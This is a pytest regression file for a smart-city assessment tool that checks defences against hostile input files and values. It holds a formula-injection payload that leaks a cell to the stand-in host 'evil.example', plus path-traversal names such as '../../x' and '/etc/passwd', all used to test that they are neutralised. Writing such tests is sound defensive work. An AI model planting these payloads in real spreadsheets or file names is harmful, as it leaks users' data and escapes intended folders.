"""Every row of issue 15's table ("Hostile files in, safe files out") as a regression test."""

from __future__ import annotations

import os
import uuid
import zipfile

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from smartcity_assess import files
from smartcity_assess.core.clean_text import safe_file_name
from smartcity_assess.core.errors import UserError
from smartcity_assess.core.limits import FRAMEWORK_FILE_MAX_BYTES, FRAMEWORK_MAX_INDICATORS, NOTE_MAX_CHARS
from smartcity_assess.services.assessments import record_response
from smartcity_assess.services.frameworks import open_store
from tests.hostile.conftest import database_rows, set_stored
from tests.hostile.makers import alias_bomb, framework_yaml, responses_workbook, shared_string_workbook

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def one_error_line(err: str) -> str:
    assert err.startswith("error: ") and err.count("\n") == 1 and "Traceback" not in err, err
    return err


def with_store(db, action):
    store = open_store(db)
    try:
        return action(store)
    finally:
        store.close()


def export_command(draft_id, path):
    if path.suffix == ".pdf":
        return ("report", draft_id, "--out", str(path))
    return ("responses", "export", draft_id, "--out", str(path))


@pytest.fixture
def out_dir(tmp_path):
    """A folder of its own for exports, so 'nothing else in it' can be checked."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def note(db, assessment_id, code, text):
    return with_store(db, lambda s: record_response(s, uuid.UUID(assessment_id), code, note=text))


# ---- formula injection ---------------------------------------------------------------------------


def test_xlsx_exports_write_texts_never_formulas(run, demo_db, draft_id, tmp_path):
    note(demo_db, draft_id, "GOV-01", EVIL)
    set_stored(demo_db, "UPDATE cities SET name = ? WHERE name = 'Cimahi (demo)'", "=1+1 Cimahi")
    responses, comparison = tmp_path / "r.xlsx", tmp_path / "c.xlsx"
    assert run("responses", "export", draft_id, "--out", str(responses))[0] == 0
    assert (
        run("compare", "--year", "2025", "--cities", "Bandung (demo)", "=1+1 Cimahi", "--out", str(comparison))[0] == 0
    )
    for path in (responses, comparison):
        cells = [c for sheet in load_workbook(path) for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = {c.value for c in cells if c.data_type == "s"}
        assert EVIL in texts or "=1+1 Cimahi" in texts


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_csv_cells_that_a_spreadsheet_would_run_get_the_owasp_prefix(run, demo_db, draft_id, tmp_path, start):
    note(demo_db, draft_id, "GOV-01", f"{start}SUM(A1:A9)")
    path = tmp_path / "r.csv"
    run("responses", "export", draft_id, "--out", str(path))
    line = next(x for x in path.read_text(encoding="utf-8").splitlines() if x.startswith("GOV-01,"))
    assert f",'{start}SUM(A1:A9)," in line or f',"\'{start}SUM(A1:A9)",' in line


# ---- XLSX round trip ---------------------------------------------------------------------------


def test_a_formula_cell_in_an_imported_workbook_is_refused_with_its_cell(run, demo_db, draft_id, tmp_path):
    path = responses_workbook(tmp_path / "f.xlsx", [["indicator", "level", "note"], ["GOV-01", 3, "=A1&B1"]])
    before = database_rows(demo_db)
    code, _, err = run("responses", "import", draft_id, str(path))
    assert code == 2 and "cell C2 holds a formula (=A1&B1)" in one_error_line(err)
    assert database_rows(demo_db) == before


# ---- control characters ------------------------------------------------------------------------


@pytest.mark.parametrize("char", ["\x07", "\x0b", "\x00", "\x1b", "\ud800"])
def test_control_characters_are_refused_at_the_door_naming_the_field(demo_db, draft_id, char):
    before = database_rows(demo_db)
    with pytest.raises(UserError, match=r"^note: holds .+, which cannot be stored"):
        note(demo_db, draft_id, "GOV-01", f"a{char}b")
    assert database_rows(demo_db) == before


def test_control_characters_stored_by_older_versions_refuse_the_export_not_crash_it(run, demo_db, draft_id, out_dir):
    set_stored(demo_db, "UPDATE responses SET note = 'a\x07b' WHERE indicator_code = 'GOV-01'")
    path = out_dir / "r.xlsx"
    path.write_bytes(b"the previous export")
    code, _, err = run("responses", "export", draft_id, "--out", str(path))
    assert code == 2
    assert "row 2 (GOV-01), column note: holds the control character U+0007" in one_error_line(err)
    assert path.read_bytes() == b"the previous export"
    assert sorted(p.name for p in out_dir.iterdir()) == ["r.xlsx"]


def test_text_is_stored_nfc_with_newline_line_ends(demo_db, draft_id):
    record = note(demo_db, draft_id, "GOV-01", "Cafe\u0301\r\nline two\rline three")
    assert record.note == "Café\nline two\nline three"


def test_length_limits(demo_db, draft_id, run):
    assert note(demo_db, draft_id, "GOV-01", "n" * NOTE_MAX_CHARS).note == "n" * NOTE_MAX_CHARS
    with pytest.raises(UserError, match="note: 20,001 characters, more than the 20,000 allowed"):
        note(demo_db, draft_id, "GOV-01", "n" * (NOTE_MAX_CHARS + 1))
    code, _, err = run("assessments", "new", "--city", "B" * 121, "--year", "2026")
    assert code == 2 and "city: 121 characters, more than the 120 allowed" in one_error_line(err)


# ---- exports written in place -------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".pdf"])
def test_a_full_disk_leaves_the_previous_file_and_no_fragment(run, draft_id, out_dir, monkeypatch, suffix):
    path = out_dir / f"out{suffix}"
    path.write_bytes(b"the previous good file")

    def no_space(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files.os, "fsync", no_space)
    code, _, err = run(*export_command(draft_id, path))
    assert code == 2 and "No space left on device" in one_error_line(err)
    assert path.read_bytes() == b"the previous good file"
    assert [p.name for p in out_dir.iterdir()] == [path.name]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".pdf"])
def test_exports_get_the_umask_mode(run, draft_id, tmp_path, suffix):
    path = tmp_path / f"out{suffix}"
    old = os.umask(0o022)
    try:
        command = (
            ("report", draft_id, "--out", str(path))
            if suffix == ".pdf"
            else ("responses", "export", draft_id, "--out", str(path))
        )
        assert run(*command)[0] == 0
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == 0o644


# ---- long text in the PDF -------------------------------------------------------------------------


def test_the_pdf_lays_out_a_long_note_on_a_gap_and_an_absurd_city_name(run, demo_db, draft_id, tmp_path):
    words = " ".join(f"w{i}" for i in range(2500))  # ~10,000 characters
    note(demo_db, draft_id, "COM-01", words)  # COM-01 is the largest gap
    set_stored(demo_db, "UPDATE cities SET name = ? WHERE name = 'Bandung (demo)'", "Bandung" + "B" * 8000)
    path = tmp_path / "r.pdf"
    code, _, err = run("report", draft_id, "--out", str(path))
    assert (code, err) == (0, "")
    text = " ".join(page.extract_text() for page in PdfReader(path).pages).replace("\n", " ")
    assert "w0 w1 w2" in text and "w2498 w2499" in text


# ---- YAML alias bomb and huge inputs ---------------------------------------------------------------


def test_an_alias_bomb_is_refused_in_one_sentence(run, tmp_path):
    path = tmp_path / "bomb.yaml"
    path.write_text(alias_bomb())
    code, _, err = run("frameworks", "validate", str(path))
    assert code == 2 and "stands for more than 250,000 values once its aliases are expanded" in one_error_line(err)


def test_a_rubric_shared_through_an_anchor_stays_legal(run, tmp_path):
    path = tmp_path / "shared.yaml"
    path.write_text(framework_yaml(FRAMEWORK_MAX_INDICATORS, shared_rubric=True))
    code, out, _ = run("frameworks", "validate", str(path))
    assert code == 0 and f"{FRAMEWORK_MAX_INDICATORS} indicators" in out


def test_too_many_indicators_and_too_large_a_file_are_refused(run, tmp_path):
    many = tmp_path / "many.yaml"
    many.write_text(framework_yaml(FRAMEWORK_MAX_INDICATORS + 1))
    code, _, err = run("frameworks", "import", str(many))
    assert code == 2 and "2,001 indicators in all; a framework may have at most 2,000" in one_error_line(err)
    huge = tmp_path / "huge.yaml"
    huge.write_text("# " + "x" * FRAMEWORK_FILE_MAX_BYTES)
    code, _, err = run("frameworks", "validate", str(huge))
    assert code == 2 and "a framework file may have at most 4 MB" in one_error_line(err)


def test_a_workbook_with_a_huge_shared_string_is_refused_before_parsing(run, demo_db, draft_id, tmp_path):
    path = shared_string_workbook(tmp_path / "s.xlsx", [["indicator", "note"], ["GOV-01", "n"]], huge_note=60 << 20)
    assert path.stat().st_size < 1 << 20
    before = database_rows(demo_db)
    code, _, err = run("responses", "import", draft_id, str(path))
    assert code == 2 and "shared-string table is 60.0 MB" in one_error_line(err)
    assert database_rows(demo_db) == before


def test_a_workbook_claiming_many_parts_is_refused_from_its_directory(run, draft_id, tmp_path):
    path = tmp_path / "parts.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        for n in range(1_001):
            archive.writestr(f"p{n}", b"")
    code, _, err = run("responses", "import", draft_id, str(path))
    assert code == 2 and "holds 1,001 parts" in one_error_line(err)


# ---- CSV field limit ------------------------------------------------------------------------------


def test_a_note_as_long_as_allowed_round_trips_through_csv(run, demo_db, draft_id, tmp_path):
    note(demo_db, draft_id, "GOV-01", "y" * NOTE_MAX_CHARS)
    path = tmp_path / "r.csv"
    run("responses", "export", draft_id, "--out", str(path))
    set_stored(demo_db, "UPDATE responses SET note = '' WHERE indicator_code = 'GOV-01'")
    assert run("responses", "import", draft_id, str(path))[0] == 0
    assert with_store(demo_db, lambda s: s.responses(uuid.UUID(draft_id))["GOV-01"].note) == "y" * NOTE_MAX_CHARS


def test_a_csv_cell_longer_than_any_cell_may_be_is_one_sentence(run, draft_id, tmp_path):
    path = tmp_path / "long.csv"
    path.write_text("indicator,note\nGOV-01," + "z" * 200_000 + "\n")
    code, _, err = run("responses", "import", draft_id, str(path))
    assert code == 2 and "row 2: a cell is longer than 32,767 characters" in one_error_line(err)


# ---- evidence names -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "stored"),
    [
        ("../../x", "x"),
        ("/etc/passwd", "passwd"),
        ("", "evidence"),
        ("a\x00b.pdf", "a_b.pdf"),
        ("C:\\w\\y.doc", "y.doc"),
    ],
)
def test_evidence_names_are_stored_as_base_names(demo_db, draft_id, given, stored):
    info = with_store(demo_db, lambda s: s.add_evidence(uuid.UUID(draft_id), "GOV-01", given, b"data"))
    assert info.file_name == stored


def test_a_long_evidence_name_keeps_its_extension_within_255_bytes():
    name = safe_file_name("é" * 300 + ".pdf")
    assert name.endswith(".pdf") and len(name.encode()) <= 255


def test_a_stored_evil_name_is_opened_inside_the_private_folder_and_removed(demo_db, draft_id, tmp_path):
    pytest.importorskip("PySide6")
    from smartcity_assess.ui.walk.evidence_files import EvidenceCopies

    info = with_store(demo_db, lambda s: s.add_evidence(uuid.UUID(draft_id), "GOV-01", "ok.txt", b"data"))
    set_stored(demo_db, "UPDATE evidence_files SET file_name = ?", str(tmp_path / "escaped.txt"))
    stored = with_store(demo_db, lambda s: s.evidence(uuid.UUID(draft_id), "GOV-01")[0])
    copies = EvidenceCopies()
    path = copies.write(info.id, stored.file_name, b"data")
    assert path.parent.parent == copies.folder and path.name == "escaped.txt"
    assert not (tmp_path / "escaped.txt").exists()
    assert oct(copies.folder.stat().st_mode & 0o777) == "0o700"
    folder = copies.folder
    copies.remove_all()
    assert not folder.exists()


# ---- damage that quick_check accepts ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "problem"),
    [
        ("UPDATE responses SET level = 9 WHERE indicator_code = 'GOV-01'", "level 9 is outside the scale 1–5"),
        ("UPDATE responses SET level = 'abc' WHERE indicator_code = 'GOV-01'", "level 'abc' is not a whole number"),
        ("UPDATE responses SET updated_at = 'yesterday' WHERE indicator_code = 'GOV-01'", "updated_at 'yesterday'"),
        ("UPDATE responses SET na = 'x' WHERE indicator_code = 'GOV-01'", "na 'x' is not true or false"),
    ],
)
def test_a_damaged_response_names_assessment_and_indicator(run, demo_db, draft_id, sql, problem):
    set_stored(demo_db, sql + " AND assessment_id = ?", draft_id)
    for command in (("score", draft_id), ("report", draft_id, "--out", str(demo_db.parent / "r.pdf"))):
        code, out, err = run(*command)
        assert code == 2 and out == ""
        line = one_error_line(err)
        assert "damaged response of GOV-01 in Bandung (demo) 2026" in line and problem in line


def test_a_wrong_level_never_gives_a_silently_wrong_score_in_lists_either(run, demo_db, draft_id):
    set_stored(
        demo_db, "UPDATE responses SET level = 9 WHERE indicator_code = 'GOV-01' AND assessment_id = ?", draft_id
    )
    code, _, err = run("assessments", "list")
    assert code == 2 and "GOV-01 in Bandung (demo) 2026: level 9 is outside the scale 1–5" in one_error_line(err)


@pytest.mark.parametrize(
    ("sql", "problem"),
    [
        ("UPDATE frameworks SET definition = '{not json'", "the stored definition is not valid JSON"),
        ("UPDATE frameworks SET title = 'nope'", "its title is not a stored text"),
    ],
)
def test_a_damaged_framework_row_is_one_sentence(run, demo_db, draft_id, sql, problem):
    set_stored(demo_db, sql)
    code, _, err = run("frameworks", "list", "--json")
    assert code == 2 and "damaged framework bandung-smart-city" in one_error_line(err) and problem in err


# ---- implausible values -----------------------------------------------------------------------------


def test_a_percentage_above_100_is_refused_in_the_app_path_and_the_import(run, demo_db, draft_id, tmp_path):
    before = database_rows(demo_db)
    with pytest.raises(UserError, match="value: 150 is outside the plausible range 0–100 % of kelurahan"):
        with_store(demo_db, lambda s: record_response(s, uuid.UUID(draft_id), "WIFI-02", value=150.0))
    path = tmp_path / "r.csv"
    path.write_text("indicator,value\nWIFI-02,150\n")
    code, _, err = run("responses", "import", draft_id, str(path))
    assert code == 2 and "row 2, column value: 150 is outside the plausible range 0–100" in one_error_line(err)
    assert database_rows(demo_db) == before


def test_a_metric_states_its_own_range(tmp_path, run):
    text = framework_yaml(1, pillars=1).replace(
        "rubric:", "metric: {unit: hotspots, thresholds: [1, 2, 3, 4], min: 0, max: 9}, rubric:"
    )
    path = tmp_path / "m.yaml"
    path.write_text(text)
    assert run("frameworks", "import", str(path))[0] == 0
    _, out, _ = run("assessments", "new", "--city", "X", "--year", "2026", "--framework", "big")
    for value, expected in (("9", 0), ("9.5", 2), ("-1", 2)):
        csv_path = tmp_path / "v.csv"
        csv_path.write_text(f"indicator,value\nI0,{value}\n")
        assert run("responses", "import", out.strip(), str(csv_path))[0] == expected
